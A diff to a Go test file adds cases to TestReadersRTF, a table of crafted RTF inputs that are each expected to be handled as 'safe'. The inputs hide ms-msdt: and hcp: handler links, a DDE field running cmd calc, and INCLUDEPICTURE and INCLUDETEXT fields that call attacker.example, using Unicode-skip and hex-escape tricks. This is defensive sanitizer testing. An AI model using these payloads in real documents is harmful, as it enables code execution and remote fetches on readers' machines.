@@ -40,6 +40,8 @@ func TestReadersRTF(t *testing.T) {
 		// Word and LibreOffice skip \ucN characters after \uN: ms-msdt: and hcp: to them.
 		{"rtf/uc-skip-hyperlink-msdt", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc6\u109 ailto:s-msdt:/id PCWDiagnostic /skip force"}{\fldrslt x}}}`), "safe", ""},
 		{"rtf/uc-skip-hyperlink-hcp", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc7\u104 ttps://cp://attacker.example/x"}{\fldrslt x}}}`), "safe", ""},
+		{"rtf/uc-skip-across-empty-group", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc6\u109 {}ailto:s-msdt:/id PCWDiagnostic"}{\fldrslt x}}}`), "safe", ""},
+		{"rtf/uc-skip-into-child-group", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst HYPERLINK "\uc6\u109 {ailto:}s-msdt:/id PCWDiagnostic"}{\fldrslt x}}}`), "safe", ""},
 		{"rtf/uc-skip-dde", "a.rtf", "", []byte(`{\rtf1\ansi\uc2{\field{\*\fldinst \u68 xxDE\u65 ??UTO cmd "/c calc"}{\fldrslt x}}}`), "safe", ""},
 		{"rtf/hex-escaped-includepicture", "a.rtf", "", []byte(`{\rtf1\ansi{\field{\*\fldinst \'49NCLUDEPICTURE "http://attacker.example/a.png" \\d}{\fldrslt x}}}`), "safe", ""},
 		{"rtf/field-in-footnote", "a.rtf", "", []byte(`{\rtf1\ansi x{\footnote {\field{\*\fldinst INCLUDETEXT "http://attacker.example/a"}{\fldrslt x}}}}`), "safe", ""},
